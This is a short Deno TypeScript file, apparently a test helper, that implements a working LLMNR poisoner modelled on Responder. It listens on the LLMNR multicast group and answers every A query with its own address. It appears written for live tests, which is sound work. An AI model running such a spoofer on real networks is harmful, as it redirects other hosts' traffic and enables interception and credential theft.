/**
 * A minimal LLMNR poisoner for the live tests, as Responder poisons LLMNR:
 * it joins 224.0.0.252 on UDP port 5355 (on the interface of the address it
 * is given) and answers every A query it hears
 * with an A record of the address it is given (its own), by unicast to the
 * querier's port. Prints "listening" once it listens; runs until killed.
 *
 * Usage: deno run --unstable-net --allow-net=0.0.0.0:5355,224.0.0.252,<querier>
 * llmnr_poisoner.ts <address>
 *
 * @module
 */

const address = Deno.args[0] ?? "";
const octets = address.split(".").map(Number);
if (octets.length !== 4 || octets.some((o) => !(o >= 0 && o <= 255))) {
  console.error(`usage: llmnr_poisoner.ts <IPv4 address>, got "${address}"`);
  Deno.exit(2);
}

const socket = Deno.listenDatagram({
  hostname: "0.0.0.0",
  port: 5355,
  transport: "udp",
});
// Joined on the interface that holds the address.
await socket.joinMulticastV4("224.0.0.252", address);
console.log("listening");

for await (const [query, from] of socket) {
  const answer = answerOf(query);
  if (answer !== undefined) await socket.send(answer, from);
}

/** The poisoned answer to `query` (an LLMNR A query), or undefined for anything else. */
function answerOf(query: Uint8Array): Uint8Array | undefined {
  // Header (12 bytes), then one question: labels, type, class.
  if (query.length < 17 || (query[2]! & 0x80) !== 0) return undefined;
  let at = 12;
  while (at < query.length && query[at] !== 0) at += query[at]! + 1;
  const questionEnd = at + 5;
  if (questionEnd > query.length) return undefined;
  const qtype = (query[at + 1]! << 8) | query[at + 2]!;
  if (qtype !== 1) return undefined;
  // The answer's owner is the name again, in full (as Responder writes it,
  // and as nmap's llmnr-resolve reads it), not a pointer to the question.
  const name = query.subarray(12, at + 1);
  const answer = new Uint8Array(questionEnd + name.length + 14);
  answer.set(query.subarray(0, questionEnd));
  answer[2] = 0x80; // QR: a response, opcode 0, no flags
  answer[3] = 0;
  answer.set([0, 1, 0, 1, 0, 0, 0, 0], 4); // one question, one answer
  answer.set(name, questionEnd);
  answer.set(
    [0, 1, 0, 1, 0, 0, 0, 30, 0, 4, ...octets],
    questionEnd + name.length,
  );
  return answer;
}
